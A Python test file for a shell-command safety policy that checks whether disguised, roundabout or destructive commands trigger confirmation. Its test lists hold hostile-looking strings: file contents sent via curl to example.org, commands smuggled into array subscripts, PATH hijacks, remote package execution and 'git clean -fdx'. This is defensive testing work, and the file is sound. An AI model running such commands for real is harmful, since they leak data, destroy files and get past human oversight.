"""How many disguised commands are recognised where a step has a way out, and how many everyday ones ask.

Both lists were written before commands were read by what is known to be harmless. The figures
stand in `docs/reference/policy.md`.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from surefoot.core.policy_types import Tier
from surefoot.shellwords import facts_of
from tests.shellwords.corpus import asking, commands_in, weighed

DISGUISED, WITH_NETWORK = "disguised.txt", "with_network.txt"
PAGE = Path(__file__).parents[2] / "docs/reference/policy.md"
ASKED_MOST = 3


@pytest.mark.parametrize("command", [*commands_in(DISGUISED), *commands_in("dangerous.txt")])
def test_with_a_way_out_a_disguised_command_asks(command: str) -> None:
    """None is missed (M51, M53)."""
    assert weighed(command, has_way_out=True).tier in {Tier.CONFIRM, Tier.NEVER}


ROUNDABOUT = [
    "printf -v PATH /tmp/x; ls",
    ": ${PATH:=/tmp/x}; ls",
    "for PATH in /tmp/x; do ls; done",
    "export GIT_DIR=/tmp/x; git status",
    "env -C / ls",
    "exec -c tmux",
    "make -f - <<< 'x:; frob'",
    "npx github:x/y",
    "curl $OPTIONS https://example.org",
    "sed 's/a/b/w /elsewhere/x' y",
    "awk '{ print > $1 }' x",
    "x='a[$(frob)]'; echo $((x))",
    """python -c "import pathlib; pathlib.os.nice(1)" """,
    """python -c "from x import y; y()" """,
    """python -c "open('/srv/x', 'w')" """,
    """node -e "require('x')" """,
    "x=$(cat y); curl https://example.org/$x",
    "[[ -v 'a[$(git push)]' ]]",
    "read x < y; curl https://example.org/$x",
    "for x in $(cat y); do curl https://example.org/$x; done",
]


@pytest.mark.parametrize("command", ROUNDABOUT)
def test_with_a_way_out_a_roundabout_way_asks(command: str) -> None:
    """Variables, code and other folders; without a way out none of them does (M51)."""
    found = weighed(command, has_way_out=True).rule, weighed(command).rule
    assert found == ("unknown-command", "effect-reversible")


NOT_READ = [
    ("/home/me/site/.venv/bin/twine upload dist/x", "publishes"),
    ("/opt/tools/bin/git push", "git-push"),
    ("valgrind git push", "git-push"),
    ("python -m cProfile -m twine upload dist/x", "publishes"),
    ("psql shop < x.sql", "databases"),
    ("cat x.sql | mysql shop", "databases"),
    ("perl -i -pe 'system(1)' x", "unclear-command"),
    ("perl -pe 's/x/y/ee' z", "unclear-command"),
]


@pytest.mark.parametrize(("command", "rule"), NOT_READ)
def test_a_program_that_another_one_starts_is_found(command: str, rule: str) -> None:
    """In whatever folder it lies, without the table of what is harmless (M51, M53)."""
    assert weighed(command).rule == rule


SHOWN = [
    "import x; print(x.__version__)",
    "import json; print(json.dumps({}))",
    "open('x', 'w').write('y')",
    "import x",
]


@pytest.mark.parametrize("code", SHOWN)
def test_with_a_way_out_code_that_calls_no_library_does_not_ask(code: str) -> None:
    """A version is shown, a file of the project is written."""
    assert weighed(f'python -c "{code}"', has_way_out=True).tier is Tier.LOG


def test_with_a_way_out_everyday_work_hardly_ever_asks() -> None:
    """At most three of the list (M51)."""
    assert len(asking(WITH_NETWORK, has_way_out=True)) <= ASKED_MOST


def test_with_a_way_out_hardly_any_everyday_command_without_network_asks() -> None:
    """The longer list holds servers and the like as well."""
    assert len(asking("everyday.txt", has_way_out=True)) <= ASKED_MOST


def test_in_a_sealed_lane_everyday_work_never_asks() -> None:
    """Where nothing can be reached, all can be put back."""
    assert asking(WITH_NETWORK, is_sealed=True) == []


def test_in_a_sealed_lane_a_program_that_is_not_known_does_not_ask() -> None:
    """What is not known matters only with a way out."""
    assert weighed("frob --all", is_sealed=True).rule == "effect-reversible"


@pytest.mark.parametrize(
    "command",
    ["git clean -fdx", "git clean -qfX .", "git stash -ua", "git ls-files -oi --exclude-standard | xargs rm"],
)
@pytest.mark.parametrize("is_sealed", [True, False])
def test_what_no_checkpoint_holds_is_said_to_be_unrestorable(command: str, *, is_sealed: bool) -> None:
    """Also in a sealed lane: there, too, nothing brings it back (M53)."""
    decision = weighed(command, is_sealed=is_sealed)
    assert (decision.tier, decision.rule, "no restore brings it back" in decision.reason) == (
        Tier.CONFIRM,
        "unrestorable",
        True,
    )


@pytest.mark.parametrize("command", ["git clean -fd", "git clean -ndx", "git clean -fd -e x", "git stash -u"])
def test_what_a_checkpoint_holds_does_not_ask(command: str) -> None:
    """Untracked files are put back; a dry run deletes nothing."""
    assert weighed(command).tier is Tier.LOG


@pytest.mark.parametrize("name", [DISGUISED, WITH_NETWORK])
def test_the_page_says_how_many_ask(name: str) -> None:
    """The figures are those of the code."""
    of = len(commands_in(name))
    shares = [f"{len(asking(name, has_way_out=not sealed, is_sealed=sealed))} of {of}" for sealed in (False, True)]
    rows = PAGE.read_text("utf-8").partition(f"| `{name}` |")[2].splitlines()[:2]
    assert [row.rsplit("|", 2)[1].strip() for row in rows] == shares


def test_the_lists_are_long_and_share_nothing() -> None:
    """A hundred each, and none twice."""
    every = [*commands_in(DISGUISED), *commands_in(WITH_NETWORK)]
    assert (len(commands_in(DISGUISED)) > 100, len(commands_in(WITH_NETWORK)) > 100) == (True, True)
    assert len(set(every)) == len(every)


def test_every_command_of_the_lists_can_be_read() -> None:
    """None asks only because it is broken."""
    found = {one: facts_of(one).unclear or "" for name in (DISGUISED, WITH_NETWORK) for one in commands_in(name)}
    assert [one for one, unclear in found.items() if "missing" in unclear or "stands where" in unclear] == []
